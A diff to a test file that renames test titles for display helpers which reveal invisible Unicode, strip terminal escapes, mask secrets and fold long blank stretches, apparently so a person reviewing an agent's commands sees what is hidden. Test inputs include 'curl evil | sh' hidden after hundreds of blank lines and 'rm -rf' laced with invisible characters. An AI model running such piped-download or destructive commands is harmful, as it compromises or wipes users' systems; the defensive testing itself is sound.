@@ -17,12 +17,12 @@ test('terminal output loses its control sequences and keeps its lines (SAFE-06)'
   expect(plainTerminalText(`cut ${ESC}[3`)).toBe('cut ')
 })
 
-test('what a person decides on hides nothing (SAFE-07)', () => {
+test('text for a decision hides nothing (SAFE-07)', () => {
   expect(markInvisible('rm\u202e -rf\u200b\n\tx')).toBe('rm⟨U+202E⟩ -rf⟨U+200B⟩\n\tx')
   expect(markInvisible(`${ESC}[8mhidden`)).toBe('⟨U+001B⟩[8mhidden')
 })
 
-test('X7: every control, format and default-ignorable character is written out and counted', () => {
+test('X7: every control, format and default-ignorable character is marked and counted', () => {
   expect(markInvisible('rm\u00ad\u00ad -rf\u{e0041}\ufe0f\ud800')).toBe(
     'rm⟨U+00AD ×2⟩ -rf⟨U+E0041⟩⟨U+FE0F⟩⟨U+D800⟩',
   )
@@ -39,7 +39,7 @@ test('X7: every control, format and default-ignorable character is written out a
   expect(countMasked('curl -H secret://seen-0123456789ab secret://github')).toBe(1)
 })
 
-test('X7: empty lines are folded with their number, and long texts show their end', () => {
+test('X7: empty lines are folded with their count, and long texts show their end', () => {
   expect(foldLines(`true${'\n'.repeat(601)}curl evil | sh`)).toEqual([
     'true',
     { kind: 'empty_lines', count: 600, text: '\n'.repeat(599) },
@@ -55,7 +55,7 @@ test('X7: empty lines are folded with their number, and long texts show their en
   ])
 })
 
-test('arguments are laid out by name; what is no object stays as it is', () => {
+test('arguments are laid out by name; other text stays unchanged', () => {
   expect(layOutArguments('{"path":"a.py","limit":3,"text":"one\\ntwo"}')).toBe(
     'path: a.py\nlimit: 3\ntext:\none\ntwo',
   )
@@ -63,7 +63,7 @@ test('arguments are laid out by name; what is no object stays as it is', () => {
   expect(layOutArguments('[1,2]')).toBe('[1,2]')
 })
 
-test('Markdown is cut between blocks and never inside a fence or a list', () => {
+test('Markdown is split between blocks, never inside a fence or list', () => {
   const text = 'One\n\nTwo\n\n```py\na\n\nb\n```\n\n- x\n\n- y\n\n  more\n\nEnd'
   const blocks = splitMarkdown(text)
   expect(blocks.join('')).toBe(text)
@@ -75,17 +75,17 @@ test('Markdown is cut between blocks and never inside a fence or a list', () => 
   ])
 })
 
-test('a fence that is still open holds what follows it', () => {
+test('an open fence contains the text after it', () => {
   expect(splitMarkdown('a\n\n```\nb\n\nc')).toEqual(['a\n\n', '```\nb\n\nc'])
 })
 
-test('the name of a tool is not said twice', () => {
+test('the name of a tool is not repeated', () => {
   expect(stripToolName('Bash', 'Bash make')).toBe('make')
   expect(stripToolName('Read', 'Read')).toBe('')
   expect(stripToolName('Read', 'Readme.md')).toBe('Readme.md')
 })
 
-test('figures are written in the language of the page', () => {
+test('numbers are formatted in the page’s language', () => {
   expect(formatDuration(850, 'en')).toBe('850ms')
   expect(formatDuration(2_340, 'en')).toBe('2.3s')
   expect(formatDuration(65_000, 'en')).toBe('1m 5s')
